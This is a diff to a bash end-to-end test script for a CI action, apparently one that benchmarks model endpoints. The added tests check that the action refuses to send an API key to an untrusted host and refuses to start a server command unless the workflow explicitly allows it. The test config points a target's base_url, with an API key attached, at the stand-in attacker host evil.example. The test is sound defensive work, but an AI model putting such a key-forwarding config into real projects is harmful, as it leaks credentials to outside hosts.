@@ -26,6 +26,11 @@
 #             with that cause; two 502s are retried and the base is used; no artifact for the
 #             base commit (or only a fork's) continues with no base folder, and compare is
 #             inconclusive on the pull request (require-base)
+#   trust-*   the allow-commands and trusted-hosts inputs: a target sending its api_key_env key
+#             to evil.example (a name that resolves nowhere) is refused at the run step with
+#             CIGATE0023 before any request; trusted-hosts: evil.example gets past the check to
+#             the connection (CIGATE0301); a perf suite's server.command is refused (CIGATE0022)
+#             unless allow-commands: true, which starts it; a mistyped allow-commands fails the step
 # Ends with "action e2e: N passed, N failed"; exits 1 on any failed assertion.
 # Needs: the .NET SDK, jq, the public datasets in shared/datasets beside the repository.
 # CIGATE_E2E_ARTIFACTS: build folder (default artifacts/action-e2e); CIGATE_E2E_KEEP=1 keeps
@@ -155,6 +160,8 @@ run_action() {
     export INPUT_FAIL_ON=fail INPUT_ALLOW_PULL_REQUEST_TARGET=false INPUT_ACCEPT_CHANGES=false INPUT_REQUIRE_BASE=auto
     export INPUT_SHARD="" INPUT_SHARDS=""
     export INPUT_ALLOW_COMMANDS=false INPUT_TRUSTED_HOSTS=""
+    # Trust comes from the inputs alone, never from the machine running this test.
+    unset CIGATE_ALLOW_COMMANDS CIGATE_TRUSTED_HOSTS
     export INPUT_RECORD=auto INPUT_HISTORY_ARTIFACT=cigate-history INPUT_HISTORY_POSTGRES_ENV="" CIGATE_DEFAULT_BRANCH=main
     # What the runner derives from the event: refs/heads/B or refs/tags/T for pushes, refs/pull/N/merge for PRs.
     GITHUB_REF=$(jq -r 'if .pull_request then "refs/pull/\(.number)/merge" else .ref // "" end' "$GITHUB_EVENT_PATH")
@@ -456,6 +463,70 @@ begin
 run_action base-fork pull_request "$(pr_event "$head2" octo/repo "$other_base")" "$head2" INPUT_CONFIG=same.yml
 expect_eq "base-fork: a fork's artifact is not a base (inconclusive)" "3 inconclusive" "$last_rc $(output verdict)"
 expect_true "base-fork: the log says why it was ignored" grep -q "ignoring artifact 'cigate-results'.*fork's commit" "$last_dir/log"
+end
+
+# 11. Trust: what cigate.yml cannot grant itself; only the action's inputs (the workflow) can.
+#     A target that would send its key to evil.example (RFC 2606: resolves nowhere), added to a
+#     config whose suite runs on every target.
+{ sed -n '1,/^suites:/p' "$workspace/same.yml" | sed '$d'
+  printf '  remote:\n    base_url: http://evil.example/v1\n    model: m\n    api_key_env: CIGATE_E2E_KEY\n    retries: { max_attempts: 1 }\n\n'
+  sed -n '/^suites:/,$p' "$workspace/same.yml"; } > "$workspace/untrusted.yml"
+host_line=$(grep -n 'base_url: http://evil.example/v1' "$workspace/untrusted.yml" | cut -d: -f1)
+trust_key=sk-e2e-trust-0001
+begin
+run_action trust-host push '{"ref": "refs/heads/main"}' "$head2" INPUT_CONFIG=untrusted.yml CIGATE_E2E_KEY=$trust_key
+expect_eq "trust-host: refused at the run step with exit 2" "2 run" "$last_rc $(cat "$last_dir/stopped-at" 2> /dev/null)"
+expect_true "trust-host: CIGATE0023 at base_url in untrusted.yml" grep -q "untrusted.yml($host_line,[0-9]*): error CIGATE0023: 'targets.remote.base_url' would send the API key from CIGATE_E2E_KEY to 'evil.example'" "$last_dir/log"
+expect_true "trust-host: refused before any request (no results folder)" test ! -e "$last_dir/runner-temp/cigate/head"
+expect_true "trust-host: no connection was tried" bash -c "! grep -q CIGATE0301 '$last_dir/log'"
+end
+begin
+run_action trust-host-granted push '{"ref": "refs/heads/main"}' "$head2" INPUT_CONFIG=untrusted.yml CIGATE_E2E_KEY=$trust_key \
+  INPUT_TRUSTED_HOSTS="api.example.com, evil.example"
+expect_eq "trust-host-granted: past the trust check, the run fails on the connection (exit 3)" "3 run" "$last_rc $(cat "$last_dir/stopped-at" 2> /dev/null)"
+expect_true "trust-host-granted: no CIGATE0023" bash -c "! grep -q CIGATE0023 '$last_dir/log'"
+expect_true "trust-host-granted: CIGATE0301, evil.example unreachable" grep -q "error CIGATE0301: target 'remote' is unreachable" "$last_dir/log"
+expect_true "trust-host-granted: the key is not in the log" bash -c "! grep -q '$trust_key' '$last_dir/log'"
+end
+
+# A perf suite that starts its own server: the command touches a flag, then exits (never ready).
+cat > "$workspace/server.yml" << EOF
+version: 1
+targets:
+  local:
+    base_url: http://127.0.0.1:9/v1
+    model: m
+suites:
+  serving:
+    kind: perf
+    targets: [local]
+    workload: { prompt_tokens: 8, output_tokens: 4, tokenizer: words }
+    profile: concurrent
+    concurrency: 1
+    max_requests: 1
+    server:
+      command: touch "$tmp/server-started"; exit 1
+      ready: { timeout: 5s, interval: 100ms }
+      stop_timeout: 2s
+EOF
+command_line=$(grep -n 'command: touch' "$workspace/server.yml" | cut -d: -f1)
+begin
+run_action trust-command push '{"ref": "refs/heads/main"}' "$head2" INPUT_CONFIG=server.yml
+expect_eq "trust-command: refused at the run step with exit 2" "2 run" "$last_rc $(cat "$last_dir/stopped-at" 2> /dev/null)"
+expect_true "trust-command: CIGATE0022 at server.command in server.yml" grep -q "server.yml($command_line,[0-9]*): error CIGATE0022: 'suites.serving.server.command' would start a process" "$last_dir/log"
+expect_true "trust-command: the command did not run" test ! -e "$tmp/server-started"
+end
+begin
+run_action trust-command-granted push '{"ref": "refs/heads/main"}' "$head2" INPUT_CONFIG=server.yml INPUT_ALLOW_COMMANDS=true
+expect_true "trust-command-granted: the command ran" test -e "$tmp/server-started"
+expect_eq "trust-command-granted: a server that exits is CIGATE0304 (exit 3), not a refusal" "3 run 0" \
+  "$last_rc $(cat "$last_dir/stopped-at" 2> /dev/null) $(grep -c CIGATE0022 "$last_dir/log")"
+expect_true "trust-command-granted: CIGATE0304 names the server" grep -q "error CIGATE0304" "$last_dir/log"
+end
+begin
+run_action trust-command-bad push '{"ref": "refs/heads/main"}' "$head2" INPUT_CONFIG=server.yml INPUT_ALLOW_COMMANDS=yes
+expect_eq "trust-command-bad: a mistyped allow-commands fails the run step" "2 run" "$last_rc $(cat "$last_dir/stopped-at" 2> /dev/null)"
+expect_true "trust-command-bad: the error names the input" grep -q "input allow-commands must be 'true' or 'false'" "$last_dir/log"
 end
 
 echo "action e2e: $passed passed, $failed failed"
